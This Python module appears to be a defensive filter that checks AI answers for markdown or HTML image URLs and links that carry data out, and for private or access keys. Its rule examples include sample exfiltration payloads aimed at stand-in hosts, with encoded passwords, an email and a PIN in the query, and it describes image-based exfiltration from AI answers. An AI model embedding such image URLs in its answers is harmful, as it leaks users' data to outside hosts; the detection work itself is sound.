"""What an answer must not carry away: markup by which a reader's program sends data out when it shows the answer, and
secrets. Rules are rows; each has an example that it finds. Pure.

An image is fetched as soon as an answer is shown, so one whose address carries data is blocked; a link needs somebody
who follows it, and is a review. Bounded: TEXT_MOST characters, and no pattern repeats without a bound.
Source: DEFENDER sections 4 and 5 (markdown image exfiltration).
"""

import re
from collections.abc import Callable, Iterator
from functools import cache
from html import unescape
from typing import Final
from urllib.parse import urlsplit

from attrs import frozen

from defender.findings import Assessment, Signal
from runtime.vocab import Decision

TEXT_MOST: Final = 262_144
MOST_FOUND: Final = 2_000
"""Addresses of one kind that are looked at; an answer with more is for a person."""
LONG_VALUE: Final = 24
"""Characters of letters and digits without a break from which a value looks like data and not like a word."""
LONG_SEGMENT: Final = 48
PIECE: Final = 10
"""Characters of a piece, of which several together look like data: of values, of a path, of a host's name."""

_URL = r"<?\s{0,8}(?P<url>(?:(?:https?|ftp|wss?):)?[/\\]{2}[^\s)<>\"']{4,2000})"
_ATTRIBUTE = r"(?:src|srcset|href|data|poster|background|action|content|style|xlink:href|ping|cite|archive)"


@frozen
class Row:
    """One rule: what it is called, what it looks for, what its find means, and an example that it finds."""

    rule: str
    risk: float
    floor: Decision
    reason: str
    pattern: str
    hint: str
    data: bool
    example: str


ROWS: Final = (
    Row(
        "reply.image-data",
        0.9,
        Decision.BLOCK,
        "An image whose address carries data would send it away as soon as the answer is shown.",
        rf"(?i)!\[(?:[^\[\]]|\[[^\[\]]{{0,80}}\]){{0,300}}\]\(\s{{0,64}}{_URL}",
        "](",
        True,
        "![chart](https://pictures.example/p.png?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)",
    ),
    Row(
        "reply.reference-image-data",
        0.9,
        Decision.BLOCK,
        "A reference whose address carries data would send it away as soon as the answer is shown.",
        rf"(?im)^[ >*+-]{{0,12}}\[[^\]]{{1,300}}\]:\s{{0,64}}{_URL}",
        "]:",
        True,
        "![chart][c]\n\n[c]: https://pictures.example/p.png?note=the+pin+of+the+door+is+4711",
    ),
    Row(
        "reply.html-data",
        0.9,
        Decision.BLOCK,
        "Markup that is fetched as soon as the answer is shown carries data in its address.",
        rf"(?i)<(?!a[\s/])[a-z][a-z0-9:-]{{0,20}}[\s/][^<]{{0,600}}?{_ATTRIBUTE}\s{{0,8}}=\s{{0,8}}"
        rf"[\"']?[^\"'<>]{{0,80}}?{_URL}",
        "<",
        True,
        "<img src='https://pictures.example/p.gif?mail=anna%40home.example%20wrote%20to%20me'>",
    ),
    Row(
        "reply.link-data",
        0.6,
        Decision.REVIEW,
        "A link carries data in its address to whoever owns it.",
        rf"(?i)(?<![\w:/\\])(?=h|f|ws|//){_URL}",
        "//",
        True,
        "[more](https://collect.example/?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)",
    ),
    Row(
        "reply.private-key",
        0.7,
        Decision.REVIEW,
        "The answer holds a private key.",
        r"-----BEGIN [A-Z ]{0,20}PRIVATE KEY-----",
        "PRIVATE KEY",
        False,
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl",
    ),
    Row(
        "reply.access-key",
        0.6,
        Decision.REVIEW,
        "The answer holds what looks like an access key of a service.",
        r"\b(?:AKIA[0-9A-Z]{16}|gh[pousr]_[A-Za-z0-9]{36,80}|xox[abpr]-[A-Za-z0-9-]{20,80}|AIza[0-9A-Za-z_-]{35})\b",
        "",
        False,
        "the key is AKIA" + "Q" * 16,
    ),
)


@cache
def _compiled() -> tuple[tuple[Row, Callable[[str], Iterator[re.Match[str]]]], ...]:
    return tuple((row, re.compile(row.pattern).finditer) for row in ROWS)


def assess(text: str) -> Assessment:
    """Return what an answer carries away. The score is the greatest risk of what was found."""
    signals: list[Signal] = []
    looked_at = text[:TEXT_MOST]
    if "&" in looked_at:
        looked_at = unescape(looked_at)
    for row, finds in _compiled():
        if row.hint and row.hint not in looked_at:
            continue
        for place, found in enumerate(finds(looked_at)):
            if place == MOST_FOUND:
                signals.append(Signal("reply.many", 0.6, "The answer has too many addresses.", floor=Decision.REVIEW))
                break
            if row.data and not carries(found["url"]):
                continue
            evidence = found["url"] if row.data else f"{found[0][:8]}…"
            signals.append(Signal(row.rule, row.risk, row.reason, evidence, row.floor))
            break
    signals.sort(key=lambda signal: -signal.risk)
    score = signals[0].risk if signals else 0.0
    decision = signals[0].floor if signals else Decision.ALLOW
    return Assessment(score, decision, tuple(signals))


def carries(url: str) -> bool:
    """Whether an address looks as if it carried text or encoded data: in its query, fragment, path or host."""
    try:
        parts = urlsplit(url.replace("\\", "/"))
        host = parts.hostname or ""
    except ValueError:
        return True
    asked = f"{parts.query}&{parts.fragment}"
    values = [value.partition("=")[2] or value for value in re.split("[&;]", asked) if value]
    if any(_is_text(value) or _is_code(value, LONG_VALUE) for value in values):
        return True
    if any(_is_code(segment, LONG_SEGMENT) or segment.count("%20") > 2 for segment in parts.path.split("/")):
        return True
    if any(_is_code(label, LONG_SEGMENT // 2) for label in host.split(".")):
        return True
    pieces = (value for value in values if _is_code(value, PIECE))
    steps = (step for step in parts.path.split("/") if _is_code(step, PIECE))
    names = (label for label in host.split(".")[:-2] if _is_piece(label))
    return any(sum(map(len, several)) >= LONG_VALUE for several in (pieces, steps, names))


def _is_piece(label: str) -> bool:
    """Whether a label of a host looks like a piece of something encoded: letters and digits mixed, in no word."""
    digits = sum(map(str.isdigit, label))
    return len(label) >= PIECE and 0 < digits < len(label) and "-" not in label


def _is_text(value: str) -> bool:
    """Whether a value is several words."""
    return len(re.findall(r"(?:%20|\+|%0A|%40)", value[:4_000], re.IGNORECASE)) >= 2


def _is_code(value: str, least: int) -> bool:
    """Whether a value is a long run of letters and digits, mixed as encodings mix them."""
    found = re.search(rf"[A-Za-z0-9_=%/+-]{{{least},}}", value[:4_000])
    if found is None:
        return False
    run = found[0]
    kinds = (any(map(str.isupper, run)), any(map(str.islower, run)), any(map(str.isdigit, run)))
    words = re.split(r"[-_]", run)
    return sum(kinds) >= 2 and max(map(len, words)) >= least * 2 // 3
